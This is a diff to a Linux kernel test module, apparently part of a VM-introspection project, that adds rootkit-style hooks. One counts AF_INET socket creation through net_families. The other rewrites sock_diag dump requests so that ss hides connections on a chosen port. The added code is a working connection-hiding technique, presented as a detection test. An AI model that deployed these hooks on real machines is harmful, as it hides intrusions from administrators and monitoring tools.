@@ -21,15 +21,35 @@
  * @hits and calls the original udp_recvmsg(): what a rootkit does to
  * filter what sockets receive. Unloading puts the original back (with
  * no UDP socket waiting in recvmsg: a test module, not a safe one).
+ *
+ * family=1 table=<&net_families from /proc/kallsyms>: the socket()
+ * side. net_families[AF_INET] (writable .data, not exported: the test
+ * passes its address) is pointed at a copy of inet_family_ops whose
+ * create counts every AF_INET socket() in @hits and calls inet_create().
+ *
+ * diag=1 table=<&sock_diag_handlers>: a connection hider for ss. With
+ * inet_diag loaded (ss loads it on demand), sock_diag_handlers[AF_INET]
+ * is pointed at a copy of inet_diag's handler whose dump rewrites every
+ * socket dump request without a filter (what "ss -tn" sends) into one
+ * with inet_diag's own bytecode filter "local port below @port, or
+ * above it" (counted in @hits), then calls inet_diag's dump: ss no
+ * longer lists a socket bound to @port, while /proc/net/tcp does. Only
+ * the slot changes; inet_diag is held (its owner) until unloading puts
+ * the original back.
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
+#include <linux/inet_diag.h>
 #include <linux/init.h>
 #include <linux/kernel.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
+#include <linux/net.h>
 #include <linux/netdevice.h>
+#include <linux/netlink.h>
 #include <linux/skbuff.h>
+#include <linux/sock_diag.h>
+#include <net/netlink.h>
 #include <net/protocol.h>
 #include <net/sock.h>
 #include <net/udp.h>
@@ -56,7 +76,30 @@ static bool recvmsg;
 module_param(recvmsg, bool, 0444);
 MODULE_PARM_DESC(recvmsg, "hook udp_prot.recvmsg instead of a protocol");
 
+static bool family;
+module_param(family, bool, 0444);
+MODULE_PARM_DESC(family, "hook net_families[AF_INET] (at @table) instead");
+
+static bool diag;
+module_param(diag, bool, 0444);
+MODULE_PARM_DESC(diag, "hide @port from ss through sock_diag_handlers[AF_INET] (at @table)");
+
+static unsigned long table;
+module_param(table, ulong, 0444);
+MODULE_PARM_DESC(table, "address of net_families or sock_diag_handlers (from /proc/kallsyms)");
+
+static ushort port = 31339;
+module_param(port, ushort, 0444);
+MODULE_PARM_DESC(port, "diag=1: the local port ss no longer lists");
+
 static typeof(udp_prot.recvmsg) vmiaas_attack_netproto_orig_recvmsg;
+
+/* family=1, diag=1: the slot written, what it held, the copy put there */
+static const void **vmiaas_attack_netproto_slot;
+static const struct net_proto_family *vmiaas_attack_netproto_orig_pf;
+static struct net_proto_family vmiaas_attack_netproto_pf;
+static const struct sock_diag_handler *vmiaas_attack_netproto_orig_diag;
+static struct sock_diag_handler vmiaas_attack_netproto_diag;
 
 static const struct net_protocol *vmiaas_attack_netproto_orig;
 static struct net_protocol vmiaas_attack_netproto_own;
@@ -90,9 +133,101 @@ static int vmiaas_attack_netproto_recvmsg(struct sock *sk, struct msghdr *msg,
 						   addr_len);
 }
 
+static int vmiaas_attack_netproto_create(struct net *net, struct socket *sock,
+					 int protocol, int kern)
+{
+	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
+	return vmiaas_attack_netproto_orig_pf->create(net, sock, protocol, kern);
+}
+
+/*
+ * The request @nlh again, with the bytecode "sport < port: accept; sport
+ * > port: accept; else reject" (each port comparison two ops: the
+ * second holds the port in ->no; "yes" goes on, "no" jumps: to the end,
+ * accept, or 4 past it, reject), then inet_diag's dump. The copy is
+ * inet_diag's for the dump (it holds its own reference).
+ */
+static int vmiaas_attack_netproto_dump(struct sk_buff *skb,
+				       struct nlmsghdr *nlh)
+{
+	const struct inet_diag_bc_op bc[4] = {
+		{ INET_DIAG_BC_S_GE, 8, 16 }, { 0, 0, port },
+		{ INET_DIAG_BC_S_GE, 8, 12 }, { 0, 0, port + 1 },
+	};
+	const int hdrlen = sizeof(struct inet_diag_req_v2);
+	const struct sock_diag_handler *orig = vmiaas_attack_netproto_orig_diag;
+	struct nlmsghdr *copy;
+	struct sk_buff *nskb;
+	int err;
+
+	if (nlh->nlmsg_type != SOCK_DIAG_BY_FAMILY ||
+	    !(nlh->nlmsg_flags & NLM_F_DUMP) || nlmsg_len(nlh) < hdrlen ||
+	    nlmsg_find_attr(nlh, hdrlen, INET_DIAG_REQ_BYTECODE))
+		return orig->dump(skb, nlh);
+	nskb = nlmsg_new(nlmsg_len(nlh) + nla_total_size(sizeof(bc)),
+			 GFP_KERNEL);
+	if (!nskb)
+		return -ENOMEM;
+	copy = __nlmsg_put(nskb, nlh->nlmsg_pid, nlh->nlmsg_seq,
+			   nlh->nlmsg_type, nlmsg_len(nlh), nlh->nlmsg_flags);
+	memcpy(nlmsg_data(copy), nlmsg_data(nlh), nlmsg_len(nlh));
+	if (nla_put(nskb, INET_DIAG_REQ_BYTECODE, sizeof(bc), bc)) {
+		kfree_skb(nskb);
+		return -EMSGSIZE;
+	}
+	nlmsg_end(nskb, copy);
+	NETLINK_CB(nskb) = NETLINK_CB(skb);
+	/*
+	 * netlink_net_capable() reads the requester's netns through
+	 * skb->sk; the socket outlives the dump (closing it ends the dump)
+	 */
+	nskb->sk = skb->sk;
+	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
+	err = orig->dump(nskb, copy);
+	consume_skb(nskb);
+	return err;
+}
+
+/* net_families[AF_INET] or sock_diag_handlers[AF_INET] on our copy. */
+static int vmiaas_attack_netproto_table(void)
+{
+	const void *orig;
+
+	if (!table)
+		return -EINVAL;
+	vmiaas_attack_netproto_slot = (const void **)table + AF_INET;
+	orig = READ_ONCE(*vmiaas_attack_netproto_slot);
+	if (!orig)
+		return -ENOENT;
+	if (family) {
+		vmiaas_attack_netproto_orig_pf = orig;
+		vmiaas_attack_netproto_pf = *vmiaas_attack_netproto_orig_pf;
+		vmiaas_attack_netproto_pf.create = vmiaas_attack_netproto_create;
+		vmiaas_attack_netproto_pf.owner = THIS_MODULE;
+		WRITE_ONCE(*vmiaas_attack_netproto_slot,
+			   &vmiaas_attack_netproto_pf);
+		pr_info("net_families[AF_INET] hooked (%ps)\n",
+			vmiaas_attack_netproto_orig_pf->create);
+		return 0;
+	}
+	vmiaas_attack_netproto_orig_diag = orig;
+	if (!try_module_get(vmiaas_attack_netproto_orig_diag->owner))
+		return -EBUSY;
+	vmiaas_attack_netproto_diag = *vmiaas_attack_netproto_orig_diag;
+	vmiaas_attack_netproto_diag.dump = vmiaas_attack_netproto_dump;
+	vmiaas_attack_netproto_diag.owner = THIS_MODULE;
+	WRITE_ONCE(*vmiaas_attack_netproto_slot, &vmiaas_attack_netproto_diag);
+	pr_info("sock_diag_handlers[AF_INET] hooked (%ps), hiding port %u\n",
+		vmiaas_attack_netproto_orig_diag->dump, port);
+	return 0;
+}
+
 static int __init vmiaas_attack_netproto_init(void)
 {
 	const struct net_protocol *orig;
+
+	if (family || diag)
+		return vmiaas_attack_netproto_table();
 
 	if (recvmsg) {
 		vmiaas_attack_netproto_orig_recvmsg = udp_prot.recvmsg;
@@ -128,6 +263,17 @@ static void __exit vmiaas_attack_netproto_exit(void)
 {
 	const struct net_protocol *orig = vmiaas_attack_netproto_orig;
 
+	if (family || diag) {
+		WRITE_ONCE(*vmiaas_attack_netproto_slot,
+			   family ? (const void *)vmiaas_attack_netproto_orig_pf :
+				    (const void *)vmiaas_attack_netproto_orig_diag);
+		synchronize_net();
+		if (diag)
+			module_put(vmiaas_attack_netproto_orig_diag->owner);
+		pr_info("AF_INET's %s given back after %u hits\n",
+			family ? "family" : "diag handler", hits);
+		return;
+	}
 	if (recvmsg) {
 		WRITE_ONCE(udp_prot.recvmsg, vmiaas_attack_netproto_orig_recvmsg);
 		/* a socket still waiting in it would fault: the tests leave none */
